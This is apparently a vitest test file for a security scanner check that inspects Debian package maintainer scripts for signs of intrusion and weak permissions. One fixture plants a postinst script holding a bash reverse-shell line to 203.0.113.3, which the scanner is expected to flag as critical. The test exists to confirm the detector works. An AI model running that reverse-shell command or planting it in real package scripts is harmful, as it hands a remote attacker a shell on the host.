import { utimesSync } from 'node:fs';
import { join } from 'node:path';
import { expect, it } from 'vitest';
import { tellsOf } from '../../../test/plant-rows.ts';
import { makeRoot, scanRoot } from '../../../test/throwaway-root.ts';
import { maintainerScripts } from './check.ts';

const info = '/var/lib/dpkg/info';
const old = Date.UTC(2024, 1, 1);
const plain = '#!/bin/sh\nset -e\nif [ "$1" = configure ]; then systemctl daemon-reload || true; fi\n';

tellsOf(maintainerScripts, {
  rows: {
    'a script of a package that opens a shell': { files: { [`${info}/base-tools.postinst`]: { text: `${plain}bash -i >& /dev/tcp/203.0.113.3/443 0>&1\n`, mode: 0o755, modified: old } }, finds: [`intrusion critical ${info}/base-tools.postinst`] },
    'a script of no package': { files: { [`${info}/libsys-core.prerm`]: { text: plain, mode: 0o755, modified: old } }, finds: [`intrusion medium ${info}/libsys-core.prerm`] },
    'a script that anybody may write': { files: { [`${info}/base-tools.postrm`]: { text: plain, mode: 0o777, modified: old } }, finds: [`weakness high ${info}/base-tools.postrm`] },
  },
  ordinary: {
    [`${info}/base-tools.postinst`]: { text: `${plain}useradd --system app || true\nrm -f /var/log/app.log\nchmod u+s /usr/bin/app\n`, mode: 0o755, modified: old },
    [`${info}/base-tools:amd64.triggers`]: 'activate ldconfig\n',
  },
  reads: `${info}/base-tools.postinst`,
});

it('finds a script that was changed after its package was installed', async () => {
  const root = makeRoot({ [`${info}/base-tools.postinst`]: { text: plain, mode: 0o755 } });
  utimesSync(join(root, info, 'base-tools.list'), old / 1000, old / 1000);
  const report = await scanRoot([maintainerScripts], root);
  expect(report.findings.map(({ kind, level, path }) => `${kind} ${level} ${path ?? ''}`)).toEqual([`notice medium ${info}/base-tools.postinst`]);
  expect(report.verdict).toBe('clean');
});
